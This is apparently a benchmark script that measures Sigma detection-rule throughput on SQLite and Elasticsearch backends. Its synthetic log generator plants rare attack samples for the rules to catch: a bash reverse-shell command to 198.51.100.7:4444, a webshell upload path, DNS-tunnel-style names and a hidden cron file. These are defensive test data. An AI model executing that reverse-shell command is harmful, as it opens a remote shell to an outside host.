"""Detection throughput: 100 Sigma rules over N stored events on each backend, against
executing the same compiled queries directly in the same run.

    python bench/detect.py [--events 1000000] [--rules 100] [--es URL] [--sqlite-only]

The rules: every base rule of our pack, topped up with SigmaHQ rules (from ../shared/sigma)
that read a log source we collect and use only fields our events carry; correlations of our
pack run on top (they reuse their base rules' matches, as in production).
Engine: `Engine.run_once` over the whole data range (windows, keyset pages, JSON parsing,
exceptions, grouping, alert upserts, checkpoints).
Reference: the same compiled queries, same time range and datasets, executed directly —
raw `sqlite3` (`SELECT doc ... WHERE <query>`, all rows fetched) and the raw
`elasticsearch` client (`search` with the same query_string and filters, search_after
paging with the engine's page size, all hits fetched).
The raw SQLite side leaves the JSON text undecoded while the engine (through the store)
and the raw ES client decode every hit; the SQLite line also prints the ratio against raw
plus decoding (orjson, timed separately, with the cycle collector paused as the engine
pauses it), for reference. The headline ratio stays the stricter one.
The engine pauses Python's cycle collector during a pass; the raw ES loop (whose client
decodes every hit too) runs under the same condition, and the generated events are frozen
out of the collector once loaded (they are the benchmark's own data: without that, every
collection during either side's decoding re-walks 10^5..10^6 documents of no interest).
Every engine pass, on either store, starts from no checkpoint and no stored alert (both
removed untimed before it), so each round does the same work: a first pass that writes all
its alerts. One untimed pass warms each store up first. Rounds alternate which side goes
first; each side keeps its best, and every round's time is printed.
Targets (issue 6): engine <= 1.25x the raw time; SQLite >= 40,000 events/s per core.
"""

from __future__ import annotations

import argparse
import gc
import os
import random
import sys
import tempfile
import time
from pathlib import Path

import orjson

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))

from eslocal import throwaway_node  # noqa: E402

from detections.catalog import usable  # noqa: E402
from detections.engine import Engine, Settings  # noqa: E402
from detections.rules import OWN_PACK, RulePack, load_pack  # noqa: E402
from soc_core import ecs  # noqa: E402
from soc_core.store import Selection, open_store  # noqa: E402
from soc_core.store.sqlite import connect  # noqa: E402

ES_PAGE = 10_000  # the engine's page size on Elasticsearch (Settings.page default)

SHARED_RULES = ROOT.parent / "shared" / "sigma" / "rules"
T0 = 1_767_225_600  # 2026-01-01T00:00:00Z
USERS = ["root", "admin", "zhangsan", "lisi", "oracle", "nginx", "ops", "deploy"]
CMDS = ["python3 /opt/app/job_{n}.py", "/usr/sbin/nginx -g daemon off;", "bash /opt/backup.sh",
        "ls -la /var/www/html", "systemctl status nginx", "curl -s http://10.20.0.8/health",
        "java -jar /opt/oa/oa-{n}.jar", "tar czf /backup/db-{n}.tgz /var/lib/mysql"]


def make_events(n: int, seed: int = 11) -> list[dict]:
    """Mixed realistic events over the datasets the rules read; one in ~2,000 is an attack."""
    rnd = random.Random(seed)
    out = []
    step = 86_400 / max(n, 1)
    for i in range(n):
        t = T0 + i * step
        src = f"10.{rnd.randrange(20, 40)}.{rnd.randrange(256)}.{rnd.randrange(1, 255)}"
        dst = f"10.20.{rnd.randrange(16)}.{rnd.randrange(1, 255)}"
        host = f"gov-app-{rnd.randrange(200):03d}"
        bad = rnd.random() < 0.0005
        kind = i % 7
        if kind in (0, 1):
            f = {"event.action": "network_flow", "event.category": ["network"],
                 "source.ip": "198.51.100.7" if bad else src,
                 "source.port": rnd.randrange(1024, 65535), "destination.ip": dst,
                 "destination.port": 3306 if bad else rnd.choice([80, 443, 8080, 53, 443]),
                 "network.transport": "tcp", "source.bytes": rnd.randrange(60, 10**6),
                 "zeek.connection.state": "REJ" if bad else rnd.choice(["SF"] * 30 + ["S0"]),
                 "destination.bytes": rnd.randrange(60, 10**6)}
            ds = "network.flow"
        elif kind == 2:
            name = (f"{rnd.getrandbits(200):050x}.t.example.net" if bad
                    else f"h{rnd.randrange(10**5)}.gov.cn")
            f = {"source.ip": src, "destination.ip": "10.20.0.53", "destination.port": 53,
                 "network.transport": "udp", "network.protocol": "dns",
                 "dns.question.name": name,
                 "dns.question.type": rnd.choice(["A", "AAAA", "A", "TXT"])}
            ds = "network.dns"
        elif kind == 3:
            path = "/upload/shell.jsp" if bad else f"/api/v1/items/{rnd.randrange(10**4)}"
            f = {"source.ip": src, "destination.ip": dst, "destination.port": 80,
                 "http.request.method": rnd.choice(["GET", "POST"]), "url.path": path,
                 "url.original": path + "?page=1", "http.response.status_code": 200,
                 "user_agent.original": "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"}
            ds = "network.http"
        elif kind == 4:
            u = rnd.choice(USERS)
            ok = rnd.random() < 0.7
            f = {"event.action": "ssh_login", "event.outcome": "success" if ok else "failure",
                 "user.name": u, "source.ip": src, "host.name": host, "process.name": "sshd",
                 "message": f"{'Accepted' if ok else 'Failed'} password for {u} from {src} "
                            f"port {rnd.randrange(1024, 65535)} ssh2"}
            ds = "system.auth"
        elif kind == 5:
            cmd = ("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1" if bad
                   else rnd.choice(CMDS).format(n=rnd.randrange(999)))
            exe = "/usr/bin/" + cmd.split()[0].split("/")[-1]
            f = {"event.action": "process_started", "event.type": ["start"], "host.name": host,
                 "process.pid": rnd.randrange(10**5), "process.name": exe.rsplit("/", 1)[1],
                 "process.executable": exe, "process.command_line": cmd,
                 "process.parent.name": rnd.choice(["systemd", "bash", "cron", "sshd"]),
                 "user.name": rnd.choice(USERS)}
            ds = "system.process"
        else:
            path = "/etc/cron.d/.x" if bad else f"/opt/app/data/{rnd.randrange(10**4)}.json"
            f = {"event.action": [rnd.choice(["created", "updated"])], "host.name": host,
                 "file.path": path, "file.type": "file", "file.size": rnd.randrange(10**6)}
            ds = "file_integrity"
        doc = ecs.expand_dotted(f)
        doc["@timestamp"] = ecs.format_time(ecs.parse_time(t))
        doc.setdefault("event", {}).update(dataset=ds, id=ecs.stable_id("bench-detect", i))
        out.append(doc)
    return out


def choose_rules(want: int) -> RulePack:
    own = load_pack([OWN_PACK])
    base = [r for r in own.rules if not r.is_correlation]
    ids = {r.id for r in base}
    if SHARED_RULES.is_dir() and len(base) < want:
        extra = load_pack([SHARED_RULES / "linux", SHARED_RULES / "network",
                           SHARED_RULES / "web", SHARED_RULES / "category"])
        for r in extra.rules:
            if len(base) >= want:
                break
            if not r.is_correlation and r.id not in ids and all(
                    usable(r, b) for b in ("sqlite", "elasticsearch")):
                r.generate = True
                base.append(r)
    base = base[:want]
    keep = {r.id for r in base}
    corr = [r for r in own.rules if r.is_correlation
            and all(b.id in keep for b in own.bases(r))]
    return RulePack(base + corr, [])


def engine_pass(store, pack: RulePack, n: int) -> float:
    eng = Engine(store, pack, settings=Settings(delay_ms=0, initial_ms=0))
    t, cpu = time.perf_counter(), time.process_time()
    summary = eng.run_once(now=T0 + 86_400 + 1, since=T0)
    el, cpu = time.perf_counter() - t, time.process_time() - cpu
    assert not summary.errors, summary.errors
    # CPU seconds of this process: on SQLite all of the work, and less moved by other
    # processes on a shared machine than the wall time
    print(f"    engine: {summary.line()}; {cpu:.2f} s CPU")
    return el


def fresh_start(store, state_dir: str) -> None:
    """Untimed, before every engine pass on either backend: no checkpoint (a first pass over
    the whole range) and no alert stored, so each pass writes all its alerts anew."""
    store.delete("state", ["detection-engine"])  # the engine's part of the detection state
    ids = [a["event"]["id"] for a in store.scan(Selection(family="alerts"))]
    if ids:
        store.delete("alerts", ids)
        store.refresh()


def compare(rounds: int, engine, raw) -> tuple[list[float], list]:
    """`rounds` rounds of (engine, raw), alternating which goes first: the machine is
    shared. Returns the engine's seconds and the raw side's results, per round."""
    ours, raws = [], []
    for r in range(rounds):
        if r % 2:
            raws.append(raw())
            ours.append(engine())
        else:
            ours.append(engine())
            raws.append(raw())
    return ours, raws


def raw_sqlite(path: str, pack: RulePack) -> tuple[float, int, float]:
    """(seconds, rows, seconds more to decode the rows' JSON; not in the first figure)."""
    conn = connect(path)  # plain sqlite3, with the REGEXP function compiled rules use
    conn.execute("PRAGMA cache_size = -65536")
    conn.execute("PRAGMA mmap_size = 268435456")
    el = decode = 0.0
    rows = 0
    cpu = time.process_time()
    for r in pack.rules:
        if r.is_correlation:
            continue
        marks = ",".join("?" * len(r.datasets))
        sql = (f"SELECT doc FROM docs WHERE family = 'events' AND dataset IN ({marks}) "
               f"AND ts >= ? AND ts < ? AND ({r.queries['sqlite']})")
        t = time.perf_counter()
        fetched = conn.execute(sql, (*r.datasets, T0 * 1000, (T0 + 86_401) * 1000)).fetchall()
        el += time.perf_counter() - t
        rows += len(fetched)
        gc.disable()  # as during an engine pass (soc_core.gcpause.cyclic_gc_paused)
        t = time.perf_counter()
        [orjson.loads(doc) for (doc,) in fetched]
        decode += time.perf_counter() - t
        gc.enable()
    conn.close()
    print(f"    raw sqlite: {rows} rows; {time.process_time() - cpu - decode:.2f} s CPU")
    return el, rows, decode


def raw_es(store, pack: RulePack) -> tuple[float, int]:
    es = store.es
    gc.disable()  # the client decodes every hit: same conditions as an engine pass
    t = time.perf_counter()
    rows = 0
    for r in pack.rules:
        if r.is_correlation:
            continue
        index = ",".join(f"logs-govsoc.{d}-{store.namespace}" for d in r.datasets)
        query = {"bool": {"filter": [
            {"range": {"@timestamp": {"gte": T0 * 1000, "lt": (T0 + 86_401) * 1000,
                                      "format": "epoch_millis"}}},
            {"query_string": {"query": r.queries["elasticsearch"], "default_field": "message",
                              "lenient": True}}]}}
        after = None
        while True:
            body = {"size": ES_PAGE, "query": query,
                    "sort": [{"@timestamp": "asc"}, {"event.id": "asc"}]}
            if after:
                body["search_after"] = after
            hits = es.search(index=index, ignore_unavailable=True, allow_no_indices=True,
                             track_total_hits=False, **body)["hits"]["hits"]
            rows += len(hits)
            if len(hits) < ES_PAGE:
                break
            after = hits[-1]["sort"]
    el = time.perf_counter() - t
    gc.enable()
    return el, rows


def load(store, docs: list[dict], batch: int = 20_000) -> float:
    t = time.perf_counter()
    for i in range(0, len(docs), batch):
        res = store.write(docs[i:i + batch])
        assert not res.rejected, res.rejected[:2]
    store.refresh()
    return time.perf_counter() - t


def report(name: str, n: int, nrules: int, ours: float, raw: float, rows: int,
           target: str, decode: float | None, ours_t: list[float], raws: list) -> None:
    print(f"{name:8} engine {n / ours:12,.0f} ev/s ({ours:.2f} s)   raw {n / raw:12,.0f} ev/s "
          f"({raw:.2f} s, {rows} matches)   engine/raw {ours / raw:.2f}x   "
          f"[{nrules} rules; {target}]")
    print(f"{'':8} seconds per round, engine: {', '.join(f'{t:.2f}' for t in ours_t)}; "
          f"raw: {', '.join(f'{r[0]:.2f}' for r in raws)}")
    if decode is not None:
        print(f"{'':8} (raw + orjson decoding of its rows {raw + decode:.2f} s: "
              f"engine/raw {ours / (raw + decode):.2f}x)")


def main() -> None:
    ap = argparse.ArgumentParser()
    ap.add_argument("--events", type=int, default=1_000_000)
    ap.add_argument("--rules", type=int, default=100)
    ap.add_argument("--es", default=None, help="Elasticsearch URL (default: start es-local)")
    ap.add_argument("--sqlite-only", action="store_true")
    ap.add_argument("--rounds", type=int, default=2, help="best of N alternating runs")
    args = ap.parse_args()
    pack = choose_rules(args.rules)
    nrules = sum(1 for r in pack.rules if not r.is_correlation)
    t = time.perf_counter()
    docs = make_events(args.events)
    print(f"{args.events} events generated in {time.perf_counter() - t:.1f} s; {nrules} rules "
          f"(+{len(pack.rules) - nrules} correlations)")
    gc.collect()
    gc.freeze()  # the generated events: see the module docstring
    with tempfile.TemporaryDirectory() as tmp:
        store = open_store(f"sqlite:///{tmp}/bench.db")
        print(f"  sqlite load {load(store, docs):.1f} s")
        os.environ["GOVSOC_DATA_DIR"] = tmp  # engine state for this throw-away store
        engine_pass(store, pack, args.events)  # untimed warm-up, as on Elasticsearch

        def sqlite_engine(p: RulePack):
            def run() -> float:
                fresh_start(store, tmp)
                return engine_pass(store, p, args.events)
            return run

        ours, raws = compare(args.rounds, sqlite_engine(pack),
                                lambda: raw_sqlite(f"{tmp}/bench.db", pack))
        raw, rows, decode = min(raws)
        report("sqlite", args.events, nrules, min(ours), raw, rows,
               "targets: engine/raw <= 1.25x, >= 40,000 ev/s per core", decode, ours, raws)
        # the same without correlations: only rules that alert on single events, so both
        # sides run exactly the same queries and the ratio is the engine's own overhead
        single = RulePack([r for r in pack.rules if not r.is_correlation and r.generate], [])
        ours, raws = compare(args.rounds, sqlite_engine(single),
                                lambda: raw_sqlite(f"{tmp}/bench.db", single))
        raw, rows, decode = min(raws)
        report("sqlite1", args.events, len(single.rules), min(ours), raw, rows,
               "single-event rules only", decode, ours, raws)
        store.close()
    if args.sqlite_only:
        return
    if args.es:
        _bench_es(args, pack, docs, nrules, args.es)
        return
    with throwaway_node(9271) as url:
        _bench_es(args, pack, docs, nrules, url)


def _bench_es(args, pack: RulePack, docs: list[dict], nrules: int, url: str) -> None:
    ns = f"bd{time.time_ns() % 10**10}"
    store = open_store(url, namespace=ns)
    try:
        print(f"  elasticsearch load {load(store, docs, 5000):.1f} s")
        with tempfile.TemporaryDirectory() as tmp:
            os.environ["GOVSOC_DATA_DIR"] = tmp  # engine state for this throw-away namespace
            # one untimed pass first: Elasticsearch creates the alert index on the first
            # alert ever written (~0.3 s, once per namespace), which no later pass pays
            # and the raw side never does; SQLite gets the same warm-up pass
            engine_pass(store, pack, args.events)

            def es_engine(p: RulePack):
                def run() -> float:
                    fresh_start(store, tmp)
                    return engine_pass(store, p, args.events)
                return run

            ours, raws = compare(args.rounds, es_engine(pack), lambda: raw_es(store, pack))
            raw, rows = min(raws)
            report("elastic", args.events, nrules, min(ours), raw, rows,
                   "target: engine/raw <= 1.25x", None, ours, raws)
            single = RulePack([r for r in pack.rules if not r.is_correlation and r.generate], [])
            ours, raws = compare(args.rounds, es_engine(single),
                                    lambda: raw_es(store, single))
            raw, rows = min(raws)
            report("elastic1", args.events, len(single.rules), min(ours), raw, rows,
                   "single-event rules only", None, ours, raws)
    finally:
        store.drop_all()
        store.close()


if __name__ == "__main__":
    main()
